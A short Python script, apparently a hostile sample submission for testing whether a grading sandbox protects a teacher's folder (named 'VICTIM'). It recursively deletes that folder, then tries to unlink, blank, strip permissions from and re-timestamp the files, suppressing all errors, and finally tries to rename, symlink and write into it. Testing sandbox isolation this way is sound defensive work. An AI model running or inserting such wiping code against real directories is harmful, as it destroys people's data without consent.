"""Deletes and overwrites what it can reach; VICTIM stands for a folder of the teacher's."""

import contextlib
import os
import pathlib
import shutil

shutil.rmtree("VICTIM", ignore_errors=True)
for path in pathlib.Path("VICTIM").glob("**/*"):
    for change in (os.unlink, lambda p: os.chmod(p, 0), lambda p: p.write_text(""), lambda p: os.utime(p, (0, 0))):
        with contextlib.suppress(OSError):
            change(path)
for change, *arguments in ((os.symlink, "VICTIM", "link"), (os.rename, "VICTIM", "gone"), (os.mkdir, "VICTIM/new")):
    with contextlib.suppress(OSError):
        change(*arguments)
